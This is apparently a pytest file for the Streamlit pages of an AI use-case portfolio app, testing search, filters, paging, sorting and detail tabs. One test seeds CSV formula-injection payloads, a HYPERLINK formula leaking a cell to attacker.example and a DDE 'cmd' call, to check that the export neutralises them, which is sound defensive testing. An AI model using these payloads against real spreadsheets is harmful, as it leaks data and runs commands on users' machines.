"""The portfolio and use-case pages, as a user sees them (AppTest)."""

from portfolio.models import Stage
from tests.pages.conftest import USE_CASE_TABS, open_tab
from tests.pages.shown import as_shown


def texts(at) -> str:
    return " ".join(
        [e.value for e in at.markdown]
        + [e.value for e in at.caption]
        + [e.value for e in at.title]
        + [e.value for e in at.info]
        + [e.value for e in at.warning]
        + [e.value for e in at.error]
    )


def metric(at, label):
    return next(m.value for m in at.metric if m.label == label)


def test_portfolio_lists_the_demo_with_headline_counts(app_for, demo_url):
    at = app_for(demo_url, "pages/portfolio.py")
    assert not at.exception
    assert at.title[0].value == "Portfolio"
    table = at.dataframe[0].value
    assert len(table) == 36
    assert {"key", "title", "stage", "owner", "team", "impact", "risk"} <= set(table.columns)
    assert metric(at, "In pilot") == str((table["stage"] == Stage.pilot.label).sum())
    assert int(metric(at, "Pilots over 180 days")) >= 1
    assert "36 use cases" in texts(at)


def test_search_and_filters_narrow_the_table(app_for, demo_url):
    at = app_for(demo_url, "pages/portfolio.py")
    at.text_input(key="q").set_value("in-room").run()
    assert at.dataframe[0].value["title"].tolist() == ["In-room voice assistant"]
    at.text_input(key="q").set_value("").run()
    at.multiselect(key="stage").set_value(["stopped"]).run()
    stopped = at.dataframe[0].value
    assert len(stopped) == 3 and set(stopped["stage"]) == {"Stopped"}
    at.multiselect(key="sector").set_value(["retail"]).run()
    assert at.dataframe[0].value["title"].tolist() == ["Campaign targeting model on commercial data"]
    at.text_input(key="q").set_value("no such thing").run()
    assert "No use case matches" in texts(at)
    assert not at.exception


def test_use_case_detail_shows_everything_recorded(app_for, demo_url):
    at = app_for(demo_url, "pages/use_case.py", uc="UC-0001")
    assert not at.exception
    assert as_shown(at.title[0].value) == "Customer-service assistant for simple questions"
    # Only the open tab runs: read each tab as a person opening them in turn would.
    shown, charts, decisions = "", 0, []
    for tab in USE_CASE_TABS:
        open_tab(at, tab)
        assert not at.exception, tab
        shown += texts(at).replace("\\", "")  # typed text is escaped for Markdown; read it as shown
        charts += len(at.get("vega_lite_chart"))
        decisions += [m.value for m in at.markdown]
    for fact in (
        "Tomás Ferreira",
        "30% of simple customer questions",
        "Limited risk",
        "Path to a human",
        "Hand-over with the transcript",
    ):
        assert fact in shown
    assert [t.label for t in at.tabs] == [
        "Overview",
        "Scores",
        "KPIs and results",
        "Decisions and history",
        "Lessons",
        "Audit trail",
    ]
    assert charts == 5  # one trend per KPI
    assert any("Pilot gate: :green[Go]" in value for value in decisions)
    assert any("badge[" in m.value and "Scale-up" in m.value for m in at.markdown)


def test_a_stopped_use_case_shows_its_lesson(app_for, demo_url):
    at = app_for(demo_url, "pages/use_case.py", uc="UC-0007", tab="Lessons")
    assert not at.exception
    shown = texts(at).replace("\\", "")
    assert "A campaign model trained on commercial data alone raised returns" in shown
    assert "Financial data" in shown


def test_disagreeing_reviewers_are_flagged(app_for, demo_url):
    at = app_for(demo_url, "pages/use_case.py", uc="UC-0003", tab="Scores")
    assert any("disagree" in w.value for w in at.warning)


def test_an_empty_portfolio_says_so(app_for, database_url):
    at = app_for(database_url, "pages/use_case.py")
    assert not at.exception
    assert "The portfolio is empty" in texts(at)
    at = app_for(database_url, "pages/portfolio.py")
    assert "No use case matches" in texts(at)


def test_an_unreachable_database_shows_one_clear_message(app_for):
    at = app_for("postgresql+psycopg://nobody:pw@127.0.0.1:1/nowhere")
    assert not at.exception
    assert len(at.error) == 1
    assert "Cannot reach the portfolio database" in at.error[0].value


def test_use_case_page_searches_a_large_portfolio_instead_of_listing_it(app_for, database_url, engine):
    from sqlmodel import Session

    from portfolio.demo.scale import generate_scale_portfolio
    from portfolio.services import use_cases

    generate_scale_portfolio(engine, 120, measurements=500)
    at = app_for(database_url, "pages/use_case.py")
    assert not at.exception
    assert at.selectbox(key="uc").value == "UC-0001" and len(at.selectbox(key="uc").options) == 50
    assert any("first 50 of 120" in c.value for c in at.caption)
    at.text_input(key="uc_search").set_value("uc-01").run()  # UC-0100 to UC-0120 match: the menu narrows
    menu = at.selectbox(key="uc")
    assert menu.value == "UC-0001"  # the open one stays open, and among the choices
    assert [o.split(" · ")[0] for o in menu.options] == ["UC-0001", *(f"UC-01{n:02d}" for n in range(21))]
    at.text_input(key="uc_search").set_value("uc-0110").run()  # one matches: it opens
    assert not at.exception
    assert at.selectbox(key="uc").value == "UC-0110"
    assert at.query_params["uc"] in ("UC-0110", ["UC-0110"])
    with Session(engine) as session:
        assert as_shown(at.title[0].value) == use_cases.get_use_case(session, "UC-0110").title


def test_the_portfolio_csv_download_neutralises_formulas(app_for, database_url, admin, engine, monkeypatch):
    """Text that a spreadsheet would run as a formula is written with a leading apostrophe (OWASP)."""
    import csv
    import io

    import streamlit

    from tests.services.factories import propose

    propose(
        engine,
        admin,
        title='=HYPERLINK("http://attacker.example/?leak="&A1,"Open")',
        team="+cmd|' /C calc'!A0",
    )
    propose(engine, admin, title="@SUM(1+1)", team="-2+3")
    downloads = []
    real = streamlit.download_button

    def recording(label, data, *args, **kwargs):
        downloads.append(data)
        return real(label, data, *args, **kwargs)

    monkeypatch.setattr(streamlit, "download_button", recording)
    at = app_for(database_url, "pages/portfolio.py")
    assert not at.exception
    (data,) = downloads
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
    assert [(r["Use case"], r["Team"]) for r in rows] == [
        ('\'=HYPERLINK("http://attacker.example/?leak="&A1,"Open")', "'+cmd|' /C calc'!A0"),
        ("'@SUM(1+1)", "'-2+3"),
    ]


def test_a_large_portfolio_is_shown_a_page_at_a_time(app_for, database_url, engine):
    from sqlalchemy import text

    from portfolio.demo.scale import generate_scale_portfolio
    from portfolio.views.portfolio_list import PAGE_SIZE

    generate_scale_portfolio(engine, 230, measurements=500)
    with engine.connect() as connection:
        in_pilot = connection.execute(
            text("SELECT count(*) FROM use_case WHERE stage = 'pilot'")
        ).scalar_one()
    at = app_for(database_url, "pages/portfolio.py")
    assert not at.exception
    assert metric(at, "In pilot") == str(in_pilot)  # counted over all 230, not the page shown
    first = at.dataframe[0].value
    assert list(first["key"]) == [f"UC-{n:04d}" for n in range(1, PAGE_SIZE + 1)]
    assert "230 use cases: 1–100 shown (page 1 of 3)" in texts(at)
    at.button(key="portfolio_next").click().run()
    at.button(key="portfolio_next").click().run()
    assert list(at.dataframe[0].value["key"]) == [f"UC-{n:04d}" for n in range(201, 231)]
    assert at.button(key="portfolio_next").disabled and "201–230 shown (page 3 of 3)" in texts(at)
    at.multiselect(key="stage").set_value(["pilot"]).run()  # a new filter starts at its first page
    assert len(at.dataframe[0].value) == min(in_pilot, PAGE_SIZE)
    assert set(at.dataframe[0].value["stage"]) == {"Pilot"}
    assert not at.exception


def test_sorting_orders_the_whole_portfolio_before_paging(app_for, database_url, engine):
    """Sorting by a column shows the true first use cases of all of them, not the first page re-sorted."""
    import json

    from sqlalchemy import text

    from portfolio.demo.scale import generate_scale_portfolio

    generate_scale_portfolio(engine, 230, measurements=500)

    def keys_in_sql(order_by: str, offset: int = 0) -> list[str]:
        with engine.connect() as connection:
            query = f"SELECT key FROM use_case ORDER BY {order_by}, key LIMIT 100 OFFSET {offset}"
            return list(connection.execute(text(query)).scalars())

    most_impact = "impact_score IS NULL, impact_score DESC"  # the unscored last
    at = app_for(database_url, "pages/portfolio.py")
    at.selectbox(key="portfolio_sort").set_value("impact").run()
    at.button_group(key="portfolio_sort_direction").set_value("Descending").run()
    assert not at.exception
    assert list(at.dataframe[0].value["key"]) == keys_in_sql(most_impact)
    assert json.loads(at.dataframe[0].proto.columns)["impact"]["label"] == "Impact ↓"
    at.button(key="portfolio_next").click().run()
    assert list(at.dataframe[0].value["key"]) == keys_in_sql(most_impact, 100)
    at.selectbox(key="portfolio_sort").set_value("days_in_stage").run()  # a new sort starts at page one
    assert list(at.dataframe[0].value["key"]) == keys_in_sql("stage_entered_at")  # most days first
    assert "230 use cases: 1–100 shown (page 1 of 3)" in texts(at)


def drawn(control) -> list[str]:
    """What the browser shows in a control it draws afresh: the value the app sends with it, else its default.
    (AppTest's .value reads the app's session state, which a browser drawing the control anew does not see; its
    next rerun sends what it shows.)"""
    proto = control.proto
    if proto.set_value:
        return list(proto.raw_values) if hasattr(proto, "raw_values") else [proto.raw_value]
    defaults = proto.default if hasattr(proto, "raw_values") else [proto.default]
    return [control.options[i] for i in defaults]


def test_sort_order_and_view_survive_a_search_with_no_hits(app_for, database_url, engine):
    """While "No use case matches" shows, the table's controls are not drawn; when the search is cleared they
    come back as they were, not at their defaults (the reviewer's steps: Key descending, Scores and risk,
    a search for "zzzz", cleared, then Next shows page 2 of the same order)."""
    from portfolio.demo.scale import generate_scale_portfolio

    generate_scale_portfolio(engine, 230, measurements=0)
    at = app_for(database_url, "pages/portfolio.py")
    at.button_group(key="portfolio_sort_direction").set_value("Descending").run()
    at.button_group(key="portfolio_columns").set_value("Scores and risk").run()
    at.text_input(key="q").set_value("zzzz").run()
    assert "No use case matches" in texts(at) and not at.dataframe
    at.text_input(key="q").set_value("").run()
    assert drawn(at.button_group(key="portfolio_sort_direction")) == [":material/arrow_downward:"]
    assert drawn(at.button_group(key="portfolio_columns")) == ["Scores and risk"]
    at.button(key="portfolio_next").click().run()
    assert not at.exception
    assert list(at.dataframe[0].value["key"]) == [f"UC-{n:04d}" for n in range(130, 30, -1)]
    assert "101–200 shown (page 2 of 3)" in texts(at)
    columns = at.dataframe[0].proto.column_order
    assert "impact" in columns and "stage" not in columns

    at.selectbox(key="portfolio_sort").set_value("title").run()
    at.text_input(key="q").set_value("zzzz").run()
    at.text_input(key="q").set_value("").run()
    assert drawn(at.selectbox(key="portfolio_sort")) == ["Use case"]
    assert drawn(at.button_group(key="portfolio_sort_direction")) == [":material/arrow_downward:"]


def test_a_page_number_typed_goes_straight_to_that_page(app_for, database_url, engine):
    """Beside Previous and Next, the Page box jumps to any page; it shows the page shown after Previous, and a
    new sort or filter starts again at page one."""
    from portfolio.demo.scale import generate_scale_portfolio

    generate_scale_portfolio(engine, 230, measurements=0)
    at = app_for(database_url, "pages/portfolio.py")
    page_box = at.number_input(key="portfolio_page_box")
    assert page_box.label == "Page (of 3)" and page_box.value == 1
    page_box.set_value(3).run()
    assert not at.exception
    assert list(at.dataframe[0].value["key"]) == [f"UC-{n:04d}" for n in range(201, 231)]
    assert "201–230 shown (page 3 of 3)" in texts(at)
    at.button(key="portfolio_previous").click().run()
    assert at.number_input(key="portfolio_page_box").value == 2
    assert list(at.dataframe[0].value["key"]) == [f"UC-{n:04d}" for n in range(101, 201)]
    at.button_group(key="portfolio_sort_direction").set_value("Descending").run()  # a new sort: page one
    assert at.number_input(key="portfolio_page_box").value == 1
    assert "1–100 shown (page 1 of 3)" in texts(at)
    at.number_input(key="portfolio_page_box").set_value(2).run()
    at.text_input(key="q").set_value("UC-00").run()  # a new search: page one of its 99 use cases, no pager
    assert not at.number_input and "99 use cases" in texts(at)
    at.text_input(key="q").set_value("").run()
    assert at.number_input(key="portfolio_page_box").value == 1
    assert at.dataframe[0].value["key"].iloc[0] == "UC-0230"
    assert not at.exception


def test_a_sort_by_a_column_the_view_leaves_out_shows_that_column(app_for, demo_url):
    import json

    at = app_for(demo_url, "pages/portfolio.py")
    assert list(at.dataframe[0].proto.column_order) == [
        "key",
        "title",
        "stage",
        "days_in_stage",
        "owner",
        "quadrant",
    ]
    at.selectbox(key="portfolio_sort").set_value("impact").run()
    table = at.dataframe[0]
    assert list(table.proto.column_order) == [
        "key",
        "title",
        "impact",
        "stage",
        "days_in_stage",
        "owner",
        "quadrant",
    ]
    assert json.loads(table.proto.columns)["impact"]["label"] == "Impact ↑"
    at.button_group(key="portfolio_columns").set_value("Scores and risk").run()  # shown there already, once
    assert list(at.dataframe[0].proto.column_order).count("impact") == 1
    assert list(at.dataframe[0].proto.column_order)[:3] == ["key", "title", "impact"]
    at.selectbox(key="portfolio_sort").set_value("title").run()
    assert list(at.dataframe[0].proto.column_order)[:3] == [
        "key",
        "title",
        "impact",
    ]  # the view's own columns
    assert not at.exception
